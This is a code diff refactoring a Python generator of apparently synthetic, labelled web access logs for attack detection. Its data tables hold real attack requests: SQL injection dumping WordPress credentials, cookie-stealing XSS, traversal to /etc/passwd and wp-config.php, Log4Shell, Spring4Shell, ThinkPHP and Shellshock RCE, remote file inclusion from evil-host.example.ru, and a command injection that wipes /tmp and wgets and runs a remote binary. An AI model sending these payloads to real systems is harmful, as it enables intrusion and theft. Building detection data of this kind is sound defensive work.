@@ -597,29 +597,8 @@ WORDLIST = ["admin", "backup", "old", "new", "test", "tmp", "dev", "api", "v1", 
 def web_attack_requests(rng, kind):
     """(method, url, status, ua) of a single-shot attack of `kind`."""
     b = rng.choice(BROWSERS)
-    if kind == "sqli":
-        return rng.choice([
-            ("GET", "/?p=1%27%20UNION%20SELECT%201,2,concat(user_login,0x3a,user_pass),4%20FROM%20wp_users--%20-", 404, b),
-            ("GET", "/index.php?id=1'+AND+SLEEP(5)--+-", 200, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
-            ("GET", "/?s=x%27)%20OR%201=1--%20", 200, b),
-            ("GET", "/wp-admin/admin-ajax.php?action=get_posts&id=-1+union+select+1,2,3,database()--", 400, b),
-            ("GET", "/products.php?cat=2%20AND%20extractvalue(1,concat(0x7e,(select%20version())))", 404, "python-requests/2.31.0"),
-        ])
-    if kind == "xss":
-        return rng.choice([
-            ("GET", "/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, b),
-            ("GET", "/search?q=%22%3E%3Csvg/onload=alert(1)%3E", 404, b),
-            ("GET", "/?s=<img+src=x+onerror=alert(1)>", 200, b),
-            ("GET", "/contact/?name=%3Ciframe%20src=javascript:alert(1)%3E", 200, b),
-        ])
-    if kind == "traversal":
-        return rng.choice([
-            ("GET", "/../../../../../../etc/passwd", 400, b),
-            ("GET", "/index.php?page=../../../../../../etc/passwd", 404, "curl/8.5.0"),
-            ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/8.5.0"),
-            ("GET", "/wp-content/plugins/wp-file-manager/download.php?file=..%2F..%2F..%2F..%2Fwp-config.php", 404, b),
-            ("GET", "/static/..%252f..%252f..%252f..%252fetc%252fshadow", 404, b),
-        ])
+    if kind == "shellshock":
+        return ("GET", "/cgi-bin/status", 404, "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'")
     if kind == "log4shell":
         cb = "%d.%d.%d.%d:1389" % (rng.choice(PUBLIC_A), rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
         return rng.choice([
@@ -628,37 +607,54 @@ def web_attack_requests(rng, kind):
             ("GET", "/api/v1/login?user=%24%7Bjndi%3Aldap%3A%2F%2F" + cb.replace(":", "%3A") + "%2Fexp%7D", 404, b),
             ("GET", "/", 200, "${${lower:j}ndi:${lower:l}dap://%s/o}" % cb),
         ])
-    if kind == "spring4shell":
-        return rng.choice([
-            ("POST", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", 200, b),
-            ("GET", "/?class.module.classLoader.URLs%5B0%5D=0", 400, "python-requests/2.28.1"),
-        ])
-    if kind == "phpunit":
-        return rng.choice([
-            ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"),
-            ("GET", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Custom-AsyncHttpClient"),
-            ("POST", "/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, b),
-        ])
-    if kind == "thinkphp":
-        return rng.choice([
-            ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 404, b),
-            ("GET", "/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 404, b),
-            ("GET", "/?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", 200, b),
-        ])
-    if kind == "shellshock":
-        return ("GET", "/cgi-bin/status", 404, "() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'")
-    if kind == "rfi":
-        return rng.choice([
+    choices = {
+        "sqli": [
+            ("GET", "/?p=1%27%20UNION%20SELECT%201,2,concat(user_login,0x3a,user_pass),4%20FROM%20wp_users--%20-", 404, b),
+            ("GET", "/index.php?id=1'+AND+SLEEP(5)--+-", 200, "sqlmap/1.8.2#stable (https://sqlmap.org)"),
+            ("GET", "/?s=x%27)%20OR%201=1--%20", 200, b),
+            ("GET", "/wp-admin/admin-ajax.php?action=get_posts&id=-1+union+select+1,2,3,database()--", 400, b),
+            ("GET", "/products.php?cat=2%20AND%20extractvalue(1,concat(0x7e,(select%20version())))", 404, "python-requests/2.31.0"),
+        ],
+        "xss": [
+            ("GET", "/?s=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, b),
+            ("GET", "/search?q=%22%3E%3Csvg/onload=alert(1)%3E", 404, b),
+            ("GET", "/?s=<img+src=x+onerror=alert(1)>", 200, b),
+            ("GET", "/contact/?name=%3Ciframe%20src=javascript:alert(1)%3E", 200, b),
+        ],
+        "traversal": [
+            ("GET", "/../../../../../../etc/passwd", 400, b),
+            ("GET", "/index.php?page=../../../../../../etc/passwd", 404, "curl/8.5.0"),
+            ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, "curl/8.5.0"),
+            ("GET", "/wp-content/plugins/wp-file-manager/download.php?file=..%2F..%2F..%2F..%2Fwp-config.php", 404, b),
+            ("GET", "/static/..%252f..%252f..%252f..%252fetc%252fshadow", 404, b),
+        ],
+        "rfi": [
             ("GET", "/index.php?page=http://evil-host.example.ru/shell.txt?", 404, b),
             ("GET", "/wp-content/plugins/x/inc.php?path=http://198.18.7.7/c99.txt%00", 404, "libwww-perl/6.72"),
-        ])
-    if kind == "cmdi":
-        return rng.choice([
+        ],
+        "cmdi": [
             ("GET", "/cgi-bin/ping.cgi?host=127.0.0.1;cat%20/etc/passwd", 404, b),
             ("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://1.2.3.4:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", 404, "Mozilla/5.0"),
             ("POST", "/boaform/admin/formLogin", 404, "Mozilla/5.0"),
-        ])
-    raise ValueError(kind)
+        ],
+        "spring4shell": [
+            ("POST", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", 200, b),
+            ("GET", "/?class.module.classLoader.URLs%5B0%5D=0", 400, "python-requests/2.28.1"),
+        ],
+        "phpunit": [
+            ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"),
+            ("GET", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "Custom-AsyncHttpClient"),
+            ("POST", "/api/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, b),
+        ],
+        "thinkphp": [
+            ("GET", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21", 404, b),
+            ("GET", "/index.php?s=index/think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", 404, b),
+            ("GET", "/?s=captcha&_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id", 200, b),
+        ],
+    }.get(kind)
+    if choices is None:
+        raise ValueError(kind)
+    return rng.choice(choices)
 
 
 def gen_web(rng, addr, span):
@@ -764,31 +760,24 @@ def gen_web(rng, addr, span):
         lab.set(ip, category, "attacker", profile, form=f, **kw)
         return ip
 
+    def prober(profile, n, paths, step, uas=BROWSERS, method=lambda: "GET"):
+        """One address requesting n of `paths` in random order, step[0] to step[1] s apart, as one of
+        `uas`; the site answers 404, but 403 to /server-status."""
+        ip = attacker_ip("recon", profile, requests=n)
+        ua = rng.choice(uas)
+        t = rng.uniform(0, span - 600)
+        for url in rng.sample(paths, k=n):
+            w.req(t, ip, method(), url, 404 if url != "/server-status" else 403, ua)
+            t += rng.uniform(*step)
+
     # recon: secrets hunters, admin-panel probers, webshell hunters, dir-busters, Nikto
     for _ in range(10):
-        n = rng.choice([1, 2, 3, 5, 8, 12, 20])
-        ip = attacker_ip("recon", "recon/secrets", requests=n)
-        ua = rng.choice(BROWSERS + ["Go-http-client/1.1", "python-requests/2.28.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1"])
-        t = rng.uniform(0, span - 600)
-        for url in rng.sample(SENSITIVE, k=n):
-            w.req(t, ip, "GET", url, 404 if url != "/server-status" else 403, ua)
-            t += rng.uniform(0.1, 3)
+        prober("recon/secrets", rng.choice([1, 2, 3, 5, 8, 12, 20]), SENSITIVE, (0.1, 3),
+               BROWSERS + ["Go-http-client/1.1", "python-requests/2.28.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1"])
     for _ in range(6):
-        n = rng.randint(3, 12)
-        ip = attacker_ip("recon", "recon/admin-panels", requests=n)
-        ua = rng.choice(BROWSERS)
-        t = rng.uniform(0, span - 600)
-        for url in rng.sample(ADMIN, k=n):
-            w.req(t, ip, "GET", url, 404, ua)
-            t += rng.uniform(0.2, 4)
+        prober("recon/admin-panels", rng.randint(3, 12), ADMIN, (0.2, 4))
     for _ in range(5):
-        n = rng.randint(5, 20)
-        ip = attacker_ip("recon", "recon/webshells", requests=n)
-        ua = rng.choice(BROWSERS)
-        t = rng.uniform(0, span - 600)
-        for url in rng.sample(SHELLS, k=n):
-            w.req(t, ip, rng.choice(["GET", "POST"]), url, 404, ua)
-            t += rng.uniform(0.2, 2)
+        prober("recon/webshells", rng.randint(5, 20), SHELLS, (0.2, 2), method=lambda: rng.choice(["GET", "POST"]))
     for i in range(4):
         n = rng.randint(150, 600)
         ua = ["gobuster/3.6", "Fuzz Faster U Fool v2.1.0-dev", rng.choice(BROWSERS), rng.choice(BROWSERS)][i]
